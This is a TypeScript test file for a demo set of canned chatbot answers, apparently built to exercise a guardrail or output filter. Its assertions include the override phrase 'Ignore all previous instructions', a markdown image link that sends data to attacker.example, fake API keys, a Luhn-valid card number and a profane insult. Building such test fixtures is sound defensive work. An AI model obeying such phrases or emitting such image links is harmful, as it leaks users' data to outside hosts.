import t from 'tap'
import {
  cannedAnswers,
  DEMO_AWS_ACCESS_KEY_ID,
  DEMO_AWS_SECRET_KEY,
  DEMO_CARD_NUMBER,
  DEMO_EMAIL,
  DEMO_OPENAI_KEY,
  findAnswer,
  pickAnswer
} from '../../src/demo/canned-answers.js'

function textOf (name: string): string {
  const answer = findAnswer(cannedAnswers, name)
  if (answer === undefined) throw new Error(`no canned answer ${name}`)
  return answer.text
}

function luhnValid (digits: string): boolean {
  let sum = 0
  for (let i = 0; i < digits.length; i++) {
    let d = Number(digits[digits.length - 1 - i])
    if (i % 2 === 1) {
      d *= 2
      if (d > 9) d -= 9
    }
    sum += d
  }
  return sum % 10 === 0
}

t.test('gives every answer a unique name', async (t) => {
  const names = cannedAnswers.map((a) => a.name)
  t.equal(new Set(names).size, names.length)
  t.ok(names.length >= 6)
})

t.test('carries one kind of sensitive content per trouble answer', async (t) => {
  t.ok(textOf('email').includes(DEMO_EMAIL))
  t.match(DEMO_EMAIL, /^[a-z.]+@[a-z-]+\.[a-z]+$/)

  t.ok(textOf('card').includes(DEMO_CARD_NUMBER))
  t.ok(luhnValid(DEMO_CARD_NUMBER.replace(/ /g, '')), 'the card number passes the Luhn check')

  const key = textOf('key')
  t.ok(key.includes(DEMO_OPENAI_KEY))
  t.match(DEMO_OPENAI_KEY, /^sk-proj-[A-Za-z0-9]{48}$/)
  t.ok(key.includes(DEMO_AWS_ACCESS_KEY_ID))
  t.match(DEMO_AWS_ACCESS_KEY_ID, /^AKIA[A-Z2-7]{16}$/)
  t.notOk(DEMO_AWS_ACCESS_KEY_ID.endsWith('EXAMPLE'), 'not the allow-listed documentation key')
  t.match(DEMO_AWS_SECRET_KEY, /^[A-Za-z0-9+/]{40}$/)

  t.match(textOf('abuse'), /stupid fucking idiot/)
  t.match(textOf('injection'), /Ignore all previous instructions/)
  t.match(textOf('exfil'), /!\[x\]\(https:\/\/attacker\.example\/log\?data=[A-Za-z0-9]+\)/)
})

t.test('keeps the clean answers free of digits runs, e-mails and keys', async (t) => {
  for (const name of ['clean', 'haiku']) {
    const text = textOf(name)
    t.notMatch(text, /@|\d{4}|sk-|AKIA|!\[/, name)
  }
})

t.test('builds the same fake credentials on every load', async (t) => {
  const again = await import(`../../src/demo/canned-answers.js?again=${Date.now()}`)
  t.equal(again.DEMO_OPENAI_KEY, DEMO_OPENAI_KEY)
  t.equal(again.DEMO_AWS_ACCESS_KEY_ID, DEMO_AWS_ACCESS_KEY_ID)
})

t.test('picks an answer by a keyword of the prompt, in any case', async (t) => {
  t.equal(pickAnswer(cannedAnswers, 'What is her EMAIL address?')?.name, 'email')
  t.equal(pickAnswer(cannedAnswers, 'which credit card did I use')?.name, 'card')
  t.equal(pickAnswer(cannedAnswers, 'show me the AWS key')?.name, 'key')
  t.equal(pickAnswer(cannedAnswers, 'be rude to me')?.name, 'abuse')
  t.equal(pickAnswer(cannedAnswers, 'summarize this page')?.name, 'injection')
  t.equal(pickAnswer(cannedAnswers, 'draw a chart as an image')?.name, 'exfil')
  t.equal(pickAnswer(cannedAnswers, 'hello there')?.name, 'clean')
  t.equal(pickAnswer(cannedAnswers, 'write a haiku')?.name, 'haiku')
  t.equal(pickAnswer(cannedAnswers, 'send an e-mail')?.name, 'email')
})

t.test('matches keywords only as whole words', async (t) => {
  t.equal(pickAnswer(cannedAnswers, 'the monkey ate the cardboard'), undefined)
})

t.test('picks exactly with answer:NAME, before any keyword', async (t) => {
  t.equal(pickAnswer(cannedAnswers, 'my card please answer:haiku')?.name, 'haiku')
  t.equal(pickAnswer(cannedAnswers, 'answer:nope about my card')?.name, 'card', 'an unknown name falls back to keywords')
})

t.test('returns undefined when nothing matches, so the caller can go round-robin', async (t) => {
  t.equal(pickAnswer(cannedAnswers, 'what is the capital of France?'), undefined)
  t.equal(pickAnswer(cannedAnswers, ''), undefined)
})
